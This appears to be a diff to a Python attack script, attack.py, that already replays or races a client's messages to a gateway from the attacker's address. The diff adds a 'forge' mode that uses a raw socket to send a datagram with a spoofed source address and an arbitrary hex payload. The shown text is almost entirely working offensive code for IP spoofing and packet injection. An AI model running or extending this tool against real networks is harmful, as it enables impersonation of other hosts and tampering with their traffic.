@@ -8,6 +8,7 @@
     attack.py relay GATEWAY PORT    takes such lines from standard input and
         sends at once what the client sent, from his own address, faster than
         the client's own network delivers it; says at the end how many
+    attack.py forge SOURCE DESTINATION PAYLOAD    sends one datagram
 """
 import signal
 import socket
@@ -95,8 +96,16 @@ def relay(gateway):
     print(sent, flush=True)
 
 
+def forge(source, destination, payload):
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw.sendto(forged(address(source), address(destination),
+                      bytes.fromhex(payload)), (address(destination)[0], 0))
+
+
 def main():
-    if sys.argv[1] == "replay":
+    if sys.argv[1] == "forge":
+        forge(*sys.argv[2:5])
+    elif sys.argv[1] == "replay":
         replay(*sys.argv[2:5], (sys.argv[5], int(sys.argv[6])))
     else:
         relay((sys.argv[2], int(sys.argv[3])))
